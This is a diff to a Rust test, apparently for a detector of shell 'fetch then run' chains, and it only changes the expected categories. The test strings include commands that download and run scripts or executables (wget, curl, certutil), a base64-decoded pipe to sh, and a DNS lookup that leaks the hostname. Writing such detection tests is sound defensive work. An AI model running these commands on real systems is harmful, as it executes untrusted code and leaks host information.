@@ -277,15 +277,11 @@ fn shell_text_that_runs_what_it_fetched_is_a_chain() {
             Fetched,
             ProgramFile,
         ),
-        (
-            "wget https://a.invalid/run.sh; sh run.sh",
-            Fetched,
-            ProgramFile,
-        ),
+        ("wget https://a.invalid/run.sh; sh run.sh", Fetched, Process),
         (
             "curl https://a.invalid/x -o x.js; node x.js",
             Fetched,
-            ProgramFile,
+            Process,
         ),
         ("echo bHM= | base64 -d | sh", Decoded, Process),
         (
@@ -307,7 +303,7 @@ fn shell_text_that_runs_what_it_fetched_is_a_chain() {
         (
             "certutil -urlcache -f https://a.invalid/x.exe x.exe && start x.exe",
             Fetched,
-            ProgramFile,
+            Process,
         ),
         ("nslookup $(hostname).a.invalid", HostFacts, Dns),
         (
